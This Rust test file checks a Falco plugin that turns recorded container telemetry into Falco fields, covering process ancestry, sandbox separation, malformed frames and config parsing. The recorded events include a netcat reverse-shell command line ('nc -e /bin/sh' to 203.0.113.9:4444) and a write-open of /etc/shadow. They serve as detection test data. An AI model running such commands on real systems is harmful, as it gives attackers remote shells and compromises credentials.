//! The plugin through `falco_plugin_runner`: recorded frames go in through the plugin's own
//! socket, fields come out through the plugin API.

use std::ffi::CString;
use std::io::Write;
use std::os::unix::net::UnixStream;
use std::path::PathBuf;
use std::time::{Duration, Instant};

use bulwark_protocol::telemetry::{encode_frame, Enriched, Event as TEvent, EventType, FdType, SocketFamily};
use falco_plugin_runner::{CapturingPluginRunner, ExtractedField, MetricValue, PluginRunner, ScapStatus};

use super::BULWARK_PLUGIN_API;

/// A test's directory, removed when the test ends.
struct TempDir(PathBuf);

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn socket_path(name: &str) -> (PathBuf, TempDir) {
    let dir = std::env::temp_dir().join(format!("bulwark-falco-{}-{name}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    (dir.join("telemetry.sock"), TempDir(dir))
}

fn start(name: &str) -> (CapturingPluginRunner, PathBuf, TempDir) {
    let (path, dir) = socket_path(name);
    let config = CString::new(format!(r#"{{"socket_path": "{}"}}"#, path.display())).unwrap();
    let mut runner = PluginRunner::new();
    runner.register_plugin(&BULWARK_PLUGIN_API, &config).unwrap();
    (runner.start_capture().unwrap(), path, dir)
}

pub fn enriched(sandbox: &str, pid: u32, ppid: u32, ty: EventType, f: impl FnOnce(&mut TEvent)) -> Enriched {
    let mut e = TEvent::new();
    e.type_ = ty.into();
    e.pid = pid;
    e.tid = pid;
    e.ppid = ppid;
    e.uid = 0;
    e.loginuid = u32::MAX;
    f(&mut e);
    let mut m = Enriched::new();
    m.event = Some(e).into();
    m.sandbox_id = sandbox.into();
    m.node_name = "node-1".into();
    m.pod_name = format!("pod-{sandbox}");
    m.pod_namespace = "tenant-a".into();
    m.pod_uid = "uid-1".into();
    m.container_id = format!("ctr-{sandbox}");
    m.container_name = "app".into();
    m.image = "docker.io/library/nginx:1.27".into();
    m.drops = 3;
    m
}

pub fn exec(sandbox: &str, pid: u32, ppid: u32, argv: &[&str]) -> Enriched {
    enriched(sandbox, pid, ppid, EventType::EXECVE, |e| {
        e.comm = argv[0].rsplit('/').next().unwrap().into();
        e.exe_path = format!("/usr/bin/{}", e.comm);
        e.argv = argv.iter().map(|s| s.to_string()).collect();
        e.cwd = "/".into();
    })
}

/// Next event from the plugin (waits for the listener thread), then the runner's parse.
fn next(runner: &mut CapturingPluginRunner) -> falco_plugin_runner::Event {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        match runner.next_event() {
            Ok(ev) => return ev,
            Err(e) if e.downcast_ref::<ScapStatus>() == Some(&ScapStatus::Timeout) => {
                assert!(Instant::now() < deadline, "no event in time");
            }
            Err(e) => panic!("next_event: {e:?}"),
        }
    }
}

fn no_event(runner: &mut CapturingPluginRunner) {
    let deadline = Instant::now() + Duration::from_millis(400);
    while Instant::now() < deadline {
        match runner.next_event() {
            Ok(_) => panic!("an event came through"),
            Err(e) => assert_eq!(e.downcast_ref::<ScapStatus>(), Some(&ScapStatus::Timeout)),
        }
    }
}

fn connect(path: &PathBuf) -> UnixStream {
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        match UnixStream::connect(path) {
            Ok(s) => return s,
            Err(e) => {
                assert!(Instant::now() < deadline, "connect: {e}");
                std::thread::sleep(Duration::from_millis(20));
            }
        }
    }
}

fn send(stream: &mut UnixStream, m: &Enriched) {
    stream.write_all(&encode_frame(m).unwrap()).unwrap();
}

fn field(runner: &mut CapturingPluginRunner, ev: &falco_plugin_runner::Event, name: &str) -> ExtractedField {
    runner
        .extract_field(ev, name)
        .unwrap_or_else(|| panic!("no field {name}"))
        .unwrap_or_else(|rc| panic!("{name}: rc {rc}"))
}

fn string(runner: &mut CapturingPluginRunner, ev: &falco_plugin_runner::Event, name: &str) -> String {
    match field(runner, ev, name) {
        ExtractedField::String(s) => s.into_string().unwrap(),
        other => panic!("{name}: {other:?}"),
    }
}

fn num(runner: &mut CapturingPluginRunner, ev: &falco_plugin_runner::Event, name: &str) -> u64 {
    match field(runner, ev, name) {
        ExtractedField::U64(v) => v,
        other => panic!("{name}: {other:?}"),
    }
}

fn metric(runner: &mut CapturingPluginRunner, name: &str) -> u64 {
    let m = runner.get_metrics();
    let found = m.iter().find(|m| m.name.ends_with(name)).unwrap_or_else(|| panic!("no metric {name}"));
    match found.value {
        MetricValue::U64(v) => v,
        other => panic!("{other:?}"),
    }
}

#[test]
fn every_field_comes_out_of_a_recorded_event() {
    let (mut r, path, _dir) = start("fields");
    let mut s = connect(&path);
    send(&mut s, &exec("sb1", 10, 1, &["/usr/sbin/sshd", "-D"]));
    let ev = next(&mut r);
    assert_eq!(string(&mut r, &ev, "proc.name"), "sshd");
    send(&mut s, &exec("sb1", 20, 10, &["/bin/bash", "-l"]));
    next(&mut r);
    let mut connect = enriched("sb1", 30, 20, EventType::CONNECT, |e| {
        e.comm = "nc".into();
        e.exe_path = "/usr/bin/nc".into();
        e.argv = vec!["nc".into(), "-e".into(), "/bin/sh".into(), "203.0.113.9".into(), "4444".into()];
        e.tty = 34816;
        e.uid = 1000;
        e.user_name = "app".into();
        e.fd = 3;
        e.fd_type = FdType::IPV4_SOCKET.into();
        e.res = -115;
        e.cwd = "/work".into();
        let sock = e.socket.mut_or_insert_default();
        sock.family = SocketFamily::INET.into();
        sock.proto = bulwark_protocol::telemetry::L4Proto::TCP.into();
        sock.local_addr = vec![10, 0, 0, 5];
        sock.local_port = 40000;
        sock.remote_addr = vec![203, 0, 113, 9];
        sock.remote_port = 4444;
    });
    connect.drops = 7;
    send(&mut s, &connect);
    let ev = next(&mut r);
    let expect_str = [
        ("evt.type", "connect"),
        ("evt.res", "EINPROGRESS"),
        ("evt.arg.flags", "0"),
        ("proc.name", "nc"),
        ("proc.exepath", "/usr/bin/nc"),
        ("proc.cmdline", "nc -e /bin/sh 203.0.113.9 4444"),
        ("proc.args", "-e /bin/sh 203.0.113.9 4444"),
        ("proc.pname", "bash"),
        ("proc.pcmdline", "bash -l"),
        ("proc.cwd", "/work"),
        ("user.name", "app"),
        ("fd.name", "10.0.0.5:40000->203.0.113.9:4444"),
        ("fd.type", "ipv4"),
        ("fd.typechar", "4"),
        ("fd.l4proto", "tcp"),
        ("container.id", "ctr-sb1"),
        ("container.name", "app"),
        ("container.image", "docker.io/library/nginx:1.27"),
        ("container.image.repository", "docker.io/library/nginx"),
        ("container.image.tag", "1.27"),
        ("k8s.ns.name", "tenant-a"),
        ("k8s.pod.name", "pod-sb1"),
        ("k8s.pod.uid", "uid-1"),
        ("bulwark.sandbox_id", "sb1"),
        ("bulwark.vm", "node-1/sb1"),
        ("bulwark.node", "node-1"),
        ("proc.aname[0]", "nc"),
        ("proc.aname[1]", "bash"),
        ("proc.aname[2]", "sshd"),
    ];
    for (name, want) in expect_str {
        assert_eq!(string(&mut r, &ev, name), want, "{name}");
    }
    for (name, want) in [
        ("proc.tty", 34816),
        ("proc.pid", 30),
        ("proc.ppid", 20),
        ("user.uid", 1000),
        ("user.loginuid", u32::MAX as u64),
        ("fd.num", 3),
        ("fd.sport", 4444),
        ("fd.cport", 40000),
        ("fd.lport", 40000),
        ("fd.rport", 4444),
        ("bulwark.drops", 7),
    ] {
        assert_eq!(num(&mut r, &ev, name), want, "{name}");
    }
    assert!(matches!(field(&mut r, &ev, "fd.sip"), ExtractedField::IpAddr(a) if a.to_string() == "203.0.113.9"));
    assert!(matches!(field(&mut r, &ev, "fd.cip"), ExtractedField::IpAddr(a) if a.to_string() == "10.0.0.5"));
    assert!(matches!(field(&mut r, &ev, "evt.failed"), ExtractedField::Bool(true)));
    // Not carried by this event: <NA>, not an error.
    assert!(matches!(field(&mut r, &ev, "fd.directory"), ExtractedField::None));
    assert!(matches!(field(&mut r, &ev, "proc.aname[3]"), ExtractedField::None));

    // A file event: fd.directory / fd.filename, flags rendered as Falco does.
    send(
        &mut s,
        &enriched("sb1", 20, 10, EventType::OPENAT, |e| {
            e.path = "/etc/shadow".into();
            e.flags = 0o1 | 0o100 | 0o1000;
            e.fd_type = FdType::FILE.into();
            e.res = 4;
        }),
    );
    let ev = next(&mut r);
    assert_eq!(string(&mut r, &ev, "fd.name"), "/etc/shadow");
    assert_eq!(string(&mut r, &ev, "fd.directory"), "/etc");
    assert_eq!(string(&mut r, &ev, "fd.filename"), "shadow");
    assert_eq!(string(&mut r, &ev, "evt.arg.flags"), "O_WRONLY|O_CREAT|O_TRUNC");
    assert_eq!(string(&mut r, &ev, "proc.name"), "bash", "from the process table");
    assert_eq!(string(&mut r, &ev, "user.name"), "root", "uid 0");
    assert_eq!(num(&mut r, &ev, "fd.num"), 4);
    assert!(matches!(field(&mut r, &ev, "evt.is_open_write"), ExtractedField::Bool(true)));
    assert_eq!(metric(&mut r, "frames"), 4);
    assert_eq!(metric(&mut r, "garbage_frames"), 0);
}

#[test]
fn two_sandboxes_with_the_same_pid_stay_apart() {
    let (mut r, path, _dir) = start("apart");
    let mut a = connect(&path);
    let mut b = connect(&path);
    send(&mut a, &exec("sbA", 1, 0, &["/sbin/init-a"]));
    next(&mut r);
    send(&mut b, &exec("sbB", 1, 0, &["/sbin/init-b"]));
    next(&mut r);
    send(&mut a, &exec("sbA", 7, 1, &["/bin/sh", "-c", "id"]));
    let ev = next(&mut r);
    assert_eq!(string(&mut r, &ev, "proc.pname"), "init-a");
    send(&mut b, &exec("sbB", 7, 1, &["/bin/ls"]));
    let ev = next(&mut r);
    assert_eq!(string(&mut r, &ev, "proc.pname"), "init-b");
    assert_eq!(string(&mut r, &ev, "bulwark.sandbox_id"), "sbB");
    assert_eq!(string(&mut r, &ev, "proc.pcmdline"), "init-b");
}

#[test]
fn fork_and_exit_keep_the_table_right() {
    let (mut r, path, _dir) = start("fork");
    let mut s = connect(&path);
    send(&mut s, &exec("sb", 5, 1, &["/usr/bin/python3", "app.py"]));
    next(&mut r);
    send(&mut s, &enriched("sb", 5, 1, EventType::CLONE, |e| e.res = 6));
    next(&mut r);
    // The child's first event carries no comm: its name and parent come from the table.
    send(&mut s, &enriched("sb", 6, 5, EventType::OPENAT, |e| e.path = "/tmp/x".into()));
    let ev = next(&mut r);
    assert_eq!(string(&mut r, &ev, "proc.name"), "python3");
    assert_eq!(string(&mut r, &ev, "proc.pname"), "python3");
    assert_eq!(string(&mut r, &ev, "proc.cmdline"), "python3 app.py");
    send(&mut s, &enriched("sb", 6, 5, EventType::EXIT, |_| {}));
    next(&mut r);
    send(&mut s, &enriched("sb", 9, 6, EventType::OPENAT, |e| e.comm = "orphan".into()));
    let ev = next(&mut r);
    assert!(matches!(field(&mut r, &ev, "proc.pname"), ExtractedField::None), "pid 6 exited");
}

#[test]
fn garbage_frames_are_counted_and_skipped() {
    let (mut r, path, _dir) = start("garbage");
    let mut s = connect(&path);
    // A well-framed message that is not an Enriched, an empty one, then a good one.
    s.write_all(&[0, 0, 0, 3, 0xff, 0xff, 0xff]).unwrap();
    s.write_all(&[0, 0, 0, 0]).unwrap();
    let mut bad_limits = exec("sb", 1, 0, &["/bin/true"]);
    bad_limits.image = "i".repeat(100_000 / 2);
    s.write_all(&encode_frame(&bad_limits).unwrap()).unwrap();
    send(&mut s, &exec("sb", 2, 0, &["/bin/ok"]));
    let ev = next(&mut r);
    assert_eq!(string(&mut r, &ev, "proc.name"), "ok");
    assert_eq!(metric(&mut r, "garbage_frames"), 3);
    // An oversize length ends that connection; the next connection works.
    s.write_all(&u32::MAX.to_be_bytes()).unwrap();
    no_event(&mut r);
    let deadline = Instant::now() + Duration::from_secs(5);
    while metric(&mut r, "oversize_frames") == 0 {
        assert!(Instant::now() < deadline);
        std::thread::sleep(Duration::from_millis(20));
    }
    let mut s2 = connect(&path);
    send(&mut s2, &exec("sb", 3, 0, &["/bin/again"]));
    let ev = next(&mut r);
    assert_eq!(string(&mut r, &ev, "proc.name"), "again");
}

#[test]
fn config_is_checked() {
    assert_eq!(super::Config::parse("").unwrap(), super::Config::default());
    assert_eq!(super::Config::parse("{}").unwrap().socket_path, super::DEFAULT_SOCKET);
    assert!(super::Config::parse(r#"{"socket": "/x"}"#).is_err(), "unknown keys are refused");
    assert!(super::Config::parse(r#"{"queue_events": 0}"#).is_err());
    assert!(super::Config::parse("not json").is_err());
}

#[test]
fn a_regular_file_at_the_socket_path_is_not_replaced() {
    let (path, _dir) = socket_path("notasocket");
    std::fs::write(&path, b"keep me").unwrap();
    assert!(matches!(super::listener::bind(&path), Err(super::listener::ListenError::NotASocket(_))));
    assert_eq!(std::fs::read(&path).unwrap(), b"keep me");
}

#[test]
fn the_field_table_matches_the_pure_extractor() {
    let mut names: Vec<&str> = super::EXTRACTED.to_vec();
    let mut pure: Vec<&str> = super::fields::FIELDS.iter().map(|f| f.0).collect();
    names.sort();
    pure.sort();
    assert_eq!(names, pure);
}
